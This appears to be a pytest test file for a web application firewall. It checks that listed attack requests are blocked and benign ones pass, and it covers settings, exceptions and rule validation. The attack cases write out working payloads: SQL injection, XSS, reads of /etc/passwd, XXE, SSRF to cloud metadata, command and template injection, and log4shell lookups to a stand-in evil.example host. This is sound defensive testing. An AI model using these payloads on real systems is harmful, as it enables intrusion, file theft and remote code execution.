"""Managed WAF rules: playbooks of requests and the verdicts expected.

Each case names what it is and why it must block (or pass), so a failure
reads `sqli_double_encoded: expected block, got score 0 []`. The corpus
tests hold the rules to their tuning targets; the brute-force test proves
the prefilters never hide a match; the rest cover settings, exceptions,
the rules-file checks and what a verdict may say.
"""

from __future__ import annotations

import dataclasses
import json
import textwrap
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest
from pydantic import ValidationError

from agent.l7.waf import (
    CATEGORIES,
    CorpusError,
    RulesError,
    Waf,
    WafException,
    WafSettings,
    WafVerdict,
    default_rules,
    inputs,
    load_corpora,
    load_corpus,
    transforms,
)
from agent.l7.waf import engine as waf_engine
from agent.l7.waf.rules import parse_rules

CORPUS = Path(__file__).resolve().parent.parent / "waf_corpus"
UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
      "Chrome/124.0.0.0 Safari/537.36")
BROWSER = (("host", "shop.example.com"), ("user-agent", UA),
           ("accept", "text/html,application/xhtml+xml,*/*;q=0.8"),
           ("accept-language", "en-GB,en;q=0.9"), ("cookie", "session=4f2a9c; theme=dark"))
JSON = (("host", "api.example.com"), ("user-agent", "okhttp/4.12.0"),
        ("content-type", "application/json"),
        ("authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.e30.x"))
FORM = (("host", "shop.example.com"), ("user-agent", UA),
        ("content-type", "application/x-www-form-urlencoded"))
DEFAULT = Waf(WafSettings())


@dataclasses.dataclass(frozen=True)
class Case:
    name: str
    why: str
    method: str
    target: str
    headers: tuple[tuple[str, str], ...] = BROWSER
    body: bytes = b""
    category: str | None = None            # an attack: a matched rule of this category


def q(payload: str) -> str:
    return quote_plus(payload, safe="")


def run(case: Case, waf: Waf = DEFAULT) -> WafVerdict:
    return waf.inspect(case.method, case.target, case.headers, case.body)


def describe(v: WafVerdict) -> str:
    return f"score {v.score} {[(m.rule_id, m.target) for m in v.matches]}"


ATTACKS = [
    # SQL injection
    Case("sqli_quote_tautology", "closes the string, ORs a true condition",
         "GET", "/products?id=" + q("1' OR '1'='1"), category="sqli"),
    Case("sqli_double_encoded", "percent-encoded twice to slip past one decoding",
         "GET", "/products?id=" + quote(quote("1' OR '1'='1", safe=""), safe=""), category="sqli"),
    Case("sqli_union_comments", "UNION/**/SELECT: comments stand for spaces",
         "GET", "/view?id=1/**/UnIoN/**/SeLeCt/**/1,2,3--", category="sqli"),
    Case("sqli_versioned_comment", "MySQL runs /*!50000UNION*/ as UNION",
         "GET", "/page?id=1/*!50000UNION*/SELECT%201,2", category="sqli"),
    Case("sqli_time_blind_json", "a delay in a JSON value",
         "POST", "/api/v1/search", JSON, json.dumps({"productId": "1' AND SLEEP(5)#"}).encode(),
         category="sqli"),
    Case("sqli_stacked_form", "a second statement after ;",
         "POST", "/profile", FORM, b"uid=" + q("1; DROP TABLE users--").encode(), category="sqli"),
    Case("sqli_login_bypass", "admin'-- ends the query after the user name",
         "POST", "/login", FORM, b"username=admin%27--&password=x", category="sqli"),
    Case("sqli_in_header", "X-Forwarded-For is logged into a database",
         "GET", "/", (*BROWSER, ("x-forwarded-for", "1.2.3.4' OR SLEEP(3)#")), category="sqli"),
    Case("sqli_nosql_operator", "password[$ne] matches any password",
         "POST", "/login", FORM, b"username=admin&password%5B%24ne%5D=x", category="sqli"),
    # XSS
    Case("xss_script_tag", "the classic", "GET", "/search?q=" + q("<script>alert(1)</script>"),
         category="xss"),
    Case("xss_event_handler", "no script tag needed",
         "GET", "/c?text=" + q("'><img src=x onerror=alert(document.domain)>"), category="xss"),
    Case("xss_entities", "javascript: spelt in HTML entities",
         "GET", "/go?url=" + q("&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
                               "alert(1)"), category="xss"),
    Case("xss_fullwidth", "fullwidth brackets fold to < and > (NFKC)",
         "GET", "/search?q=" + q("\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
         category="xss"),
    Case("xss_json_escape", "\\u003c in a JSON string is <",
         "POST", "/api/comments", JSON, b'{"comment": "\\u003csvg onload=alert(1)\\u003e"}',
         category="xss"),
    Case("xss_cookie", "a cookie echoed into the page", "GET", "/",
         (("host", "x.example"), ("cookie", "name=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E")),
         category="xss"),
    # path traversal and local files
    Case("lfi_traversal", "climbs out of the web root",
         "GET", "/download?file=" + q("../../../../etc/passwd"), category="lfi"),
    Case("lfi_encoded_path", "%2e%2e in the path itself", "GET",
         "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd", category="lfi"),
    Case("lfi_backslashes", "Windows separators", "GET",
         "/view?t=" + q("..\\..\\..\\windows\\win.ini"), category="lfi"),
    Case("lfi_xxe", "an external entity reads a file", "POST", "/api/import",
         (("host", "api.example.com"), ("content-type", "application/xml")),
         b'<?xml version="1.0"?><!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]><f>&x;</f>',
         category="lfi"),
    # remote file inclusion and server-side fetches
    Case("rfi_question_mark", "the trailing ? cuts off the appended .php",
         "GET", "/index.php?page=" + q("http://evil.example/shell.txt?"), category="rfi"),
    Case("rfi_metadata", "server-side request forgery to the cloud metadata service",
         "GET", "/preview?url=" + q("http://169.254.169.254/latest/meta-data/"), category="rfi"),
    # command injection
    Case("rce_separator", "; then a command", "GET",
         "/ping?host=" + q("127.0.0.1; cat /etc/passwd"), category="rce"),
    Case("rce_obfuscated", "quotes inside the command name", "GET",
         "/run?cmd=" + q("; c'a't /etc/pa''sswd"), category="rce"),
    Case("rce_ifs", "${IFS} for a space", "GET", "/x?name=" + q(";cat${IFS}/etc/passwd"),
         category="rce"),
    Case("rce_newline", "%0a ends the intended argument", "GET", "/ping?host=localhost%0aid",
         category="rce"),
    Case("rce_shellshock", "a function definition in a header", "GET", "/cgi-bin/x.cgi",
         (("host", "x.example"), ("user-agent", "() { :; }; /bin/bash -c 'id'")), category="rce"),
    Case("rce_template", "Jinja reaching os.popen", "GET",
         "/hello?name=" + q("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
         category="rce"),
    # PHP
    Case("php_tag", "code for an include to run", "GET",
         "/index.php?data=" + q("<?php system($_GET['cmd']); ?>"), category="php"),
    Case("php_filter_wrapper", "reads source through php://filter", "GET",
         "/index.php?page=php://filter/convert.base64-encode/resource=index.php", category="php"),
    Case("php_serialized_cookie", "object injection through a cookie", "GET", "/",
         (("host", "x.example"), ("cookie", 'prefs=O:8:"stdClass":1:{s:1:"a";s:1:"b";}')),
         category="php"),
    Case("php_upload", "a web shell uploaded as an image", "POST", "/upload",
         (("host", "x.example"), ("content-type", "multipart/form-data; boundary=B")),
         b'--B\r\nContent-Disposition: form-data; name="f"; filename="avatar.php.jpg"\r\n'
         b"Content-Type: image/jpeg\r\n\r\nGIF89a\r\n--B--\r\n", category="php"),
    # Java
    Case("java_jndi_header", "log4shell in any logged header", "GET", "/",
         (*BROWSER, ("x-api-version", "${jndi:ldap://evil.example/a}")), category="java"),
    Case("java_jndi_obfuscated", "lookups spell jndi", "GET",
         "/s?q=" + q("${${lower:j}${::-n}di:ldap://evil.example/x}"), category="java"),
    Case("java_jndi_encoded", "percent-encoded ${", "GET",
         "/s?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", category="java"),
    Case("java_spel", "SpEL running a command", "GET",
         "/greeting?name=" + q("#{T(java.lang.Runtime).getRuntime().exec('id')}"),
         category="java"),
    Case("java_ognl_content_type", "Struts2 OGNL in Content-Type", "GET", "/index.action",
         (("host", "x.example"),
          ("content-type", "%{(#_='multipart/form-data').(#_memberAccess=#dm)}")),
         category="java"),
    Case("java_serialized", "a base64 Java serialization stream", "GET", "/",
         (("host", "x.example"), ("cookie", "rememberMe=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlR")),
         category="java"),
    # scanners
    Case("scanner_agent", "sqlmap says who it is", "GET", "/?id=1",
         (("host", "x.example"), ("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")),
         category="scanner"),
    Case("scanner_probe", "nobody visits /.git/config", "GET", "/.git/config", category="scanner"),
    # protocol anomalies
    Case("protocol_method", "made-up method", "FOO", "/", category="protocol"),
    Case("protocol_nul", "NUL truncates the extension check", "GET",
         "/index.php?file=report.pdf%00.php", category="protocol"),
    Case("protocol_bad_escape", "% not followed by two hex digits", "GET", "/search?q=%zz",
         category="protocol"),
    Case("protocol_overlong", "overlong UTF-8 for '.'", "GET", "/%c0%ae%c0%ae/secret",
         category="protocol"),
    Case("protocol_no_host", "HTTP/1.1 needs Host", "GET", "/", (("user-agent", "curl/8.5.0"),),
         category="protocol"),
    Case("protocol_get_body", "a GET with a body", "GET", "/api/items", JSON, b'{"a": 1}',
         category="protocol"),
    Case("protocol_bad_json", "not JSON under application/json", "POST", "/api/v1/users", JSON,
         b"{user: 'x',}", category="protocol"),
    Case("protocol_many_args", "300 arguments", "GET",
         "/s?" + "&".join(f"a{i}={i}" for i in range(300)), category="protocol"),
    Case("protocol_long_arg", "a 5000-character argument", "GET", "/s?q=" + "A" * 5000,
         category="protocol"),
    Case("protocol_smuggling", "Content-Length beside Transfer-Encoding", "POST", "/api",
         (("host", "x.example"), ("content-length", "4"), ("transfer-encoding", "chunked")),
         b"{}", category="protocol"),
]

BENIGN = [
    Case("put_json", "a nested JSON update with quotes and punctuation", "PUT",
         "/api/v1/users/4821", JSON, json.dumps(
             {"name": "Seán O'Brien", "address": {"line1": "5 Rue de l'Église", "city": "Lyon"},
              "note": 'Said: "ring twice; leave at door" (ticket #88)', "tags": ["vip", "a&b"]}
         ).encode()),
    Case("patch_json", "a status change with a quoted reason", "PATCH",
         "/api/v1/orders/ORD-2024-00042", JSON,
         b'{"status": "cancelled", "reason": "Customer: \\"wrong size\\" - refund please"}'),
    Case("delete", "DELETE with a query", "DELETE", "/api/v1/users/5512?reason=user_request", JSON),
    Case("graphql_mutation", "GraphQL with variables and SQL words", "POST", "/graphql", JSON,
         json.dumps({"query": "mutation Update($input: ProfileInput!) { updateProfile(input: "
                              "$input) { user { id } errors { field message } } }",
                     "variables": {"input": {"bio": "Select, union and drop are my favourite "
                                                    "SQL words. D'Angelo & co."}}}).encode()),
    Case("graphql_query", "a query in the query string", "GET",
         "/graphql?query=" + q('{ product(id: "42") { name price } }'), JSON),
    Case("names", "apostrophes in names", "POST", "/checkout/address", FORM,
         ("full_name=" + q("Mary O'Brien-D'Angelo") + "&city=" + q("Dún Laoghaire")).encode()),
    Case("sql_prose", "prose that uses SQL words", "POST", "/contact", FORM,
         b"message=" + q("Please select the best option from our union and drop me a line; "
                         "1=1 is trivially true.").encode()),
    Case("search_quotes", "a search with quotes and an ampersand", "GET",
         "/search?q=" + q('"rock & roll" don\'t stop 50% off')),
    Case("code_snippet", "Python in a comment field", "POST", "/api/v1/issues/3/comments", JSON,
         json.dumps({"body": "```python\nif x == 'a' or y == 'b':\n    print(f'hi {x}')\n```"}
                    ).encode()),
    Case("shell_snippet", "commands after && in a comment are a snippet, not an injection",
         "POST", "/api/v1/issues/3/comments", JSON,
         json.dumps({"body": "To build: cd app && ls -la && make; tail -f app.log | grep ERR"}
                    ).encode()),
    Case("markdown_link", "a link to an https site", "POST", "/api/v1/wiki", JSON,
         json.dumps({"content": "See [the guide](https://docs.example.com/g?a=1&b=2) and "
                                "![x](https://cdn.example.com/x.png)"}).encode()),
    Case("redirect_url", "an https URL as a value", "GET",
         "/login?next=" + q("https://app.example.io/dashboard?tab=billing")),
    Case("upload_image", "a file upload", "POST", "/upload",
         (("host", "x.example"), ("content-type", "multipart/form-data; boundary=B")),
         b'--B\r\nContent-Disposition: form-data; name="photo"; filename="IMG 0042.jpg"\r\n'
         b"Content-Type: image/jpeg\r\n\r\nJFIF\r\n--B--\r\n"),
    Case("tokens", "a JWT, a UUID and a date", "GET",
         "/api/v1/files/5f0c2a9e-1b7d-4c1e-9a3b-2f6d8e0c4b1a?expires=2024-06-30T10%3A00%3A00Z",
         JSON),
]


@pytest.mark.parametrize("case", ATTACKS, ids=lambda c: c.name)
def test_attacks_are_blocked(case: Case) -> None:
    v = run(case)
    assert v.blocked, f"{case.name} ({case.why}): expected block, got {describe(v)}"
    assert case.category in {m.category for m in v.matches}, \
        f"{case.name}: expected a {case.category} rule, got {describe(v)}"


@pytest.mark.parametrize("case", BENIGN, ids=lambda c: c.name)
def test_benign_passes(case: Case) -> None:
    v = run(case)
    assert not v.blocked, f"{case.name} ({case.why}): expected pass, got {describe(v)}"


def test_every_category_has_an_attack_case() -> None:
    assert {c.category for c in ATTACKS} == set(CATEGORIES)


# -- the corpus -------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def corpus() -> list:
    return load_corpora(CORPUS)


def test_corpus_size(corpus: list) -> None:
    attacks = [e for e in corpus if e.is_attack]
    assert len(attacks) >= 300 and len(corpus) - len(attacks) >= 300
    assert {e.category for e in attacks} == set(CATEGORIES)


def test_corpus_rates(corpus: list) -> None:
    missed, blocked = [], []
    for e in corpus:
        v = DEFAULT.inspect(e.method, e.target, e.lower_headers, e.body)
        if e.is_attack and not v.blocked:
            missed.append(e.id)
        if not e.is_attack and v.blocked:
            blocked.append(f"{e.id}: {describe(v)}")
    attacks = sum(e.is_attack for e in corpus)
    assert 1 - len(missed) / attacks >= 0.95, f"missed: {missed}"
    assert not blocked, "benign blocked:\n" + "\n".join(blocked)


def _brute_force(waf: Waf, method: str, target: str, headers, body: bytes) -> set[str]:
    """Every rule's every alternative on every value, no prefilter: what matches."""
    inp = inputs.parse(method, target, headers, body)
    hit = set()
    for index in waf._indexes:
        for name, value in inp.values.get(index.collection, ()):
            if not value:
                continue
            subs = [index, index.named.get(name.lower())]
            subs += [sub for rx, sub in index.matching if rx.search(name)]
            for sub in subs:
                for e in (sub.entries if sub else ()):
                    if e.rule.id in hit or not e.target.accepts(name):
                        continue
                    v = waf_engine._transformed(value, e.chain, {(): value})
                    if e.search(v):
                        hit.add(e.rule.id)
    return hit


def test_prefilters_never_hide_a_match(corpus: list) -> None:
    """The indexed engine finds exactly what running every pattern finds."""
    waf = Waf(WafSettings(paranoia=4))
    cases = [(e.method, e.target, e.lower_headers, e.body) for e in corpus]
    cases += [(c.method, c.target, c.headers, c.body) for c in ATTACKS + BENIGN]
    for method, target, headers, body in cases:
        got = {m.rule_id for m in waf.inspect(method, target, headers, body).matches
               if default_rules().by_id[m.rule_id].check is None}
        want = _brute_force(waf, method, target, headers, body)
        assert got == want, f"{method} {target[:80]}: missing {want - got}, extra {got - want}"


# -- settings: paranoia, threshold, exceptions -------------------------------------------------


TAUTOLOGY = Case("tautology", "a bare 1=1: prose at PL1, an attack at PL2", "GET",
                 "/notes?text=" + q("1=1"))


def test_paranoia_level_changes_the_outcome() -> None:
    assert not run(TAUTOLOGY).blocked
    v = run(TAUTOLOGY, Waf(WafSettings(paranoia=2)))
    assert v.blocked and [m.rule_id for m in v.matches] == ["sqli-tautology"]
    assert default_rules().by_id["sqli-tautology"].paranoia == 2
    assert "sqli-tautology" not in DEFAULT.rule_ids


def test_threshold() -> None:
    warning = Case("warning", "one warning-level rule (score 3)", "GET", "/c?text=" + q("alert(1)"))
    v = run(warning)
    assert (v.blocked, v.score) == (False, 3)
    assert run(warning, Waf(WafSettings(threshold=3))).blocked
    critical = ATTACKS[0]
    assert not run(critical, Waf(WafSettings(threshold=1000))).blocked


SEARCH_SQLI = Case("search_sqli", "", "GET", "/api/search?q=" + q("x' OR '1'='1") + "&c=" + q("x"))


def test_exception_by_rule_everywhere() -> None:
    waf = Waf(WafSettings(exceptions=[WafException(rules=("sqli-quote-boolean",))]))
    assert "sqli-quote-boolean" not in waf.rule_ids
    assert not run(SEARCH_SQLI, waf).blocked


def test_exception_by_category() -> None:
    waf = Waf(WafSettings(exceptions=[{"categories": ["sqli"]}]))
    assert not run(SEARCH_SQLI, waf).blocked
    assert run(ATTACKS[20], waf).blocked            # other categories still run


def test_exception_by_path_prefix() -> None:
    waf = Waf(WafSettings(exceptions=[{"categories": ["sqli"], "path_prefix": "/api/search"}]))
    assert not run(SEARCH_SQLI, waf).blocked
    elsewhere = dataclasses.replace(SEARCH_SQLI, target=SEARCH_SQLI.target.replace(
        "/api/search", "/api/other"))
    assert run(elsewhere, waf).blocked
    # dot segments are resolved: /api/search/../admin is not under /api/search
    escaping = dataclasses.replace(SEARCH_SQLI, target=SEARCH_SQLI.target.replace(
        "/api/search", "/api/search/%2e%2e/admin"))
    assert run(escaping, waf).blocked


def test_exception_by_target() -> None:
    waf = Waf(WafSettings(exceptions=[{"rules": ["sqli-quote-boolean"], "target": "args:q"}]))
    assert not run(SEARCH_SQLI, waf).blocked
    other_arg = dataclasses.replace(SEARCH_SQLI, target="/api/search?q=x&c=" + q("x' OR '1'='1"))
    v = run(other_arg, waf)
    assert v.blocked and v.matches[0].target == "args:c"
    by_collection = Waf(WafSettings(exceptions=[{"categories": ["xss"], "target": "cookies"}]))
    xss_cookie = next(c for c in ATTACKS if c.name == "xss_cookie")
    assert not run(xss_cookie, by_collection).blocked
    assert run(ATTACKS[9], by_collection).blocked   # xss in args still blocks


def test_disabled_passes_everything() -> None:
    assert run(ATTACKS[0], Waf(WafSettings(enabled=False))) == WafVerdict(False, 0, ())


@pytest.mark.parametrize("raw,why", [
    ({"paranoia": 0}, "greater than or equal to 1"),
    ({"paranoia": 5}, "less than or equal to 4"),
    ({"threshold": 0}, "greater than or equal to 1"),
    ({"exceptions": [{"rules": ["sqli-nope", "xss-script-tag", "xss-nah"]}]},
     "unknown rule id(s): sqli-nope, xss-nah"),
    ({"exceptions": [{"categories": ["sqli", "ldap"]}]}, "unknown category: ldap"),
    ({"exceptions": [{"path_prefix": "/x"}]}, "names rules, categories or both"),
    ({"exceptions": [{"categories": ["xss"], "path_prefix": "api"}]}, "is not a path prefix"),
    ({"exceptions": [{"categories": ["xss"], "target": "argz:q"}]}, "is not a target"),
    ({"exceptions": [{"categories": ["xss"], "target": "args:"}]}, "is not a target"),
    ({"mode": "block"}, "Extra inputs are not permitted"),
])
def test_settings_errors_name_the_problem(raw: dict, why: str) -> None:
    with pytest.raises(ValidationError) as e:
        WafSettings(**raw)
    assert why in str(e.value)


def test_settings_valid_example() -> None:
    s = WafSettings(paranoia=2, threshold=7, exceptions=[
        {"rules": ["sqli-quote-boolean"], "path_prefix": "/api/search", "target": "args:q"},
        {"categories": ["php"], "path_prefix": "/wiki/"}])
    assert s.exceptions[0].target == "args:q" and s.exceptions[1].categories == ("php",)
    with pytest.raises(ValidationError):
        s.paranoia = 3                              # frozen


# -- the rules file ---------------------------------------------------------------------------


GOOD_RULE = """
  - id: test-rule
    category: xss
    score: critical
    targets: [args]
    transforms: [lowercase]
    patterns: ['<blink>']
    description: test
"""


def _rules(tmp_path: Path, body: str) -> str:
    path = tmp_path / "rules.yaml"
    path.write_text("rules:\n" + textwrap.dedent(body))
    try:
        from agent.l7.waf import load_rules
        load_rules(path)
    except RulesError as e:
        return str(e)
    return ""


@pytest.mark.parametrize("body,error", [
    (GOOD_RULE.replace("'<blink>'", "'(<blink>'"),
     "rules.yaml: rule test-rule: patterns[0]: not a regular expression"),
    (GOOD_RULE.replace("category: xss", "category: ldap"), "rule test-rule: category: 'ldap'"),
    (GOOD_RULE.replace("[lowercase]", "[lowercase, rot13]"),
     "rule test-rule: transforms[1]: 'rot13' is not a transformation"),
    (GOOD_RULE + GOOD_RULE, "rule test-rule: id: duplicate"),
    (GOOD_RULE.replace("score: critical", "score: severe"), "rule test-rule: score: 'severe'"),
    (GOOD_RULE.replace("    description: test\n", ""), "rule test-rule: description: missing"),
    (GOOD_RULE.replace("targets: [args]", "targets: [argz]"),
     "rule test-rule: targets[0]: 'argz' is not a collection"),
    (GOOD_RULE.replace("category: xss", "category: xss\n    severity: 3"),
     "rule test-rule: severity: not a field"),
    (GOOD_RULE.replace("'<blink>'", "'(?i)<blink>'"),
     "rule test-rule: patterns[0]: global inline flags are not allowed"),
    (GOOD_RULE.replace("['<blink>']", r"['(a)\1', 'b']"),
     "rule test-rule: patterns: a rule with backreferences"),
    (GOOD_RULE.replace("paranoia", "x").replace("score: critical", "score: critical\n"
                                                "    paranoia: 5"),
     "rule test-rule: paranoia: 5 is not 1, 2, 3 or 4"),
    ("  - id: test-check\n    category: protocol\n    score: critical\n"
     "    check: arg_length\n    description: x\n",
     "rule test-check: limit: check arg_length needs a limit"),
    ("  - id: test-check\n    category: protocol\n    score: critical\n"
     "    check: teapot\n    description: x\n", "rule test-check: check: 'teapot' is not a check"),
    ("  - id: Bad Id\n", "rules[0]: id: 'Bad Id' is not an id"),
])
def test_rules_file_errors_name_rule_and_field(tmp_path: Path, body: str, error: str) -> None:
    assert error in _rules(tmp_path, body)


def test_rules_file_valid_example(tmp_path: Path) -> None:
    assert _rules(tmp_path, GOOD_RULE) == ""
    rules = parse_rules("rules:\n" + GOOD_RULE)
    waf = Waf(WafSettings(), rules)
    assert waf.inspect("GET", "/?a=%3CBLINK%3E", [("host", "x")], b"").blocked


def test_shipped_rules_cover_every_category_and_check() -> None:
    rules = default_rules().rules
    assert {r.category for r in rules} == set(CATEGORIES)
    assert {r.check for r in rules if r.check} == set(waf_engine._CHECKS)
    assert all(r.description for r in rules)


# -- what a verdict says ----------------------------------------------------------------------


def test_verdict_names_no_values() -> None:
    secret = "s3cr3t-payload-7781"
    cases = [
        ("GET", f"/search?q={q(secret)}%27%20OR%20%271%27%3D%271", BROWSER, b""),
        ("GET", "/?" + q(f"<script>{secret}</script>") + "=1", BROWSER, b""),
        ("POST", "/api", JSON, json.dumps({f"<svg onload={secret}>": 1}).encode()),
        ("GET", "/", (*BROWSER, ("x-note", "${jndi:ldap://" + secret + "}")), b""),
    ]
    for method, target, headers, body in cases:
        v = DEFAULT.inspect(method, target, headers, body)
        assert v.blocked
        text = repr(v) + json.dumps([dataclasses.asdict(m) for m in v.matches])
        assert secret not in text and "script" not in text.replace("xss-script-tag", "")
    assert {m.target for m in DEFAULT.inspect(*cases[1]).matches} == {"args_names"}
    assert DEFAULT.inspect(*cases[0]).matches[0].target == "args:q"


def test_verdict_shape() -> None:
    v = run(ATTACKS[0])
    assert dataclasses.is_dataclass(v) and v.blocked and v.score >= 5
    m = v.matches[0]
    assert (m.rule_id, m.category, m.target) == ("sqli-quote-boolean", "sqli", "args:id")
    with pytest.raises(dataclasses.FrozenInstanceError):
        v.blocked = False


# -- inputs, bounds and transformations -------------------------------------------------------


def test_inputs_split_a_request() -> None:
    body = json.dumps({"user": {"name": "x", "tags": ["a", {"k": "v"}]}, "n": 3}).encode()
    inp = inputs.parse("POST", "/a%20b?x=1&y=%27&flag", [("host", "h"), ("cookie", "s=%7B1%7D"),
                                                         ("content-type", "application/json")],
                       body)
    assert inp.path == "/a b"
    assert inp.values["args"] == [("x", "1"), ("y", "'"), ("flag", ""), ("user.name", "x"),
                                  ("user.tags", "a"), ("user.tags.k", "v")]
    assert ("user.tags.k", "k") in inp.values["args_names"]
    assert inp.values["cookies"] == [("s", "{1}")]
    assert "cookie" not in dict(inp.values["headers"])
    assert inp.arg_count == 3                       # query and form arguments only


def test_structured_headers_are_skipped_when_well_formed() -> None:
    inp = inputs.parse("GET", "/", [("accept-language", "en-US,en;q=0.9"),
                                    ("accept", "text/html' OR '1'='1")], b"")
    assert [n for n, _ in inp.values["headers"]] == ["accept"]


def test_bounds() -> None:
    big = b'{"a": "' + b"x" * (inputs.MAX_BODY + 10) + b'"}'
    v = Waf(WafSettings(paranoia=2)).inspect("POST", "/api", JSON, big)
    assert ("protocol-truncated", "body") in {(m.rule_id, m.target) for m in v.matches}
    assert not DEFAULT.inspect("POST", "/api", JSON, big).blocked     # PL1: just stop
    many = json.dumps(["v"] * (inputs.MAX_VALUES + 50)).encode()
    inp = inputs.parse("POST", "/api", [("content-type", "application/json")], many)
    assert len(inp.values["args"]) <= inputs.MAX_VALUES and inp.truncated


def test_transformations() -> None:
    assert transforms.url_decode("%253Cb%253E") == "%3Cb%3E"
    assert transforms.url_decode_uni("%u002e%u002e%2f") == "../"
    assert transforms.html_entity_decode("&lt;a&#62;&#x3c;") == "<a><"
    assert transforms.escape_decode("\\x3c\\u003e\\u{27}") == "<>'"
    assert transforms.normalise_unicode("\uff1c\uff53cript\uff1e") == "<script>"
    assert transforms.sql_comments("1/**/union/*!50000select*/2") == "1 union select 2"
    assert transforms.compress_whitespace("a \t\n b") == "a b"
    assert transforms.normalise_path("a\\b//c/./d") == "a/b/c/d"
    assert transforms.cmd_line("c'a't${IFS}/etc/pa\\ss\"wd") == "cat /etc/passwd"
    assert transforms.cmd_line("host\nid") == "host;id"
    assert transforms.cmd_line("two words\ncat x.yaml") == "two words cat x.yaml"
    text = "plain value"
    assert all(transforms.TRANSFORMS[t](text) is text for t in transforms.IDENTITY_ON_PLAIN)


# -- the corpus loader ------------------------------------------------------------------------


def test_corpus_loader_defaults_and_errors(tmp_path: Path) -> None:
    ok = tmp_path / "c.yaml"
    ok.write_text("- {id: a-1, kind: benign, category: api, method: GET, target: /}\n"
                  "- {id: a-2, kind: attack, category: xss, method: GET, target: /, headers: [],"
                  " body: x}\n")
    a, b = load_corpus(ok)
    assert a.headers == (("Host", "example.com"),) and a.body == b""
    assert b.headers == () and b.body == b"x" and b.is_attack
    for text, why in [
        ("- {id: a, kind: evil, method: GET, target: /}\n", "a: kind: 'evil'"),
        ("- {id: a, kind: attack, category: ldap, method: GET, target: /}\n", "a: category"),
        ("- {id: a, kind: benign, method: GET, target: /}\n" * 2, "a: id: duplicate"),
        ("- {id: a, kind: benign, method: GET, target: /, headers: [[x]]}\n", "a: headers"),
        ("- {id: a, kind: benign, method: GET, target: /, verdict: x}\n", "a: verdict"),
    ]:
        bad = tmp_path / "bad.yaml"
        bad.write_text(text)
        with pytest.raises(CorpusError, match=why):
            load_corpus(bad)


def test_the_memo_of_clean_values_hides_no_attack_and_keeps_no_value() -> None:
    waf = Waf(WafSettings())
    benign = ("GET", "/products?id=42", BROWSER, b"")
    assert not waf.inspect(*benign).blocked
    assert waf._clean, "clean values were not remembered"
    assert not waf.inspect(*benign).blocked
    # The same Host and User-Agent, an attack in an argument: still caught.
    attack = ("GET", "/products?id=" + q("1' OR '1'='1"), BROWSER, b"")
    assert waf.inspect(*attack).blocked
    # The same argument name with a value seen clean, then an attacking one.
    assert waf.inspect("GET", "/p?q=" + q("<script>alert(1)</script>"), BROWSER, b"").blocked
    # A whole request seen clean passes from the request memo; one byte
    # more in the body is a new request, inspected afresh.
    assert waf._clean_requests, "the clean request was not remembered"
    assert not waf.inspect(*benign).blocked
    assert waf.inspect("POST", "/products", BROWSER, b"q=1").score == 0
    assert waf.inspect("POST", "/products", BROWSER, b"q=1' OR '1'='1").blocked
    # Only salted hashes are kept, never a value.
    assert all(type(k) is int for k in (*waf._clean, *waf._clean_requests))
    waf.forget()
    assert not waf._clean and not waf._clean_requests


def test_no_memo_when_the_hash_seed_is_fixed(monkeypatch) -> None:
    """With PYTHONHASHSEED fixed, hashes can be computed by anyone, so a
    crafted attack could collide with a remembered clean hash: no memo."""
    monkeypatch.setenv("PYTHONHASHSEED", "0")
    waf = Waf(WafSettings())
    benign = ("GET", "/products?id=42", BROWSER, b"")
    assert not waf.inspect(*benign).blocked
    assert not waf.inspect(*benign).blocked
    assert not waf._clean and not waf._clean_requests
    assert waf.inspect("GET", "/products?id=" + q("1' OR '1'='1"), BROWSER, b"").blocked


def test_the_memo_is_bounded() -> None:
    waf = Waf(WafSettings())
    for i in range(waf_engine.CLEAN_MEMO + 100):
        waf.inspect("GET", f"/items?page={i}", (("host", "shop.example.com"),), b"")
    assert len(waf._clean) <= waf_engine.CLEAN_MEMO
    assert len(waf._clean_requests) <= waf_engine.CLEAN_REQUESTS
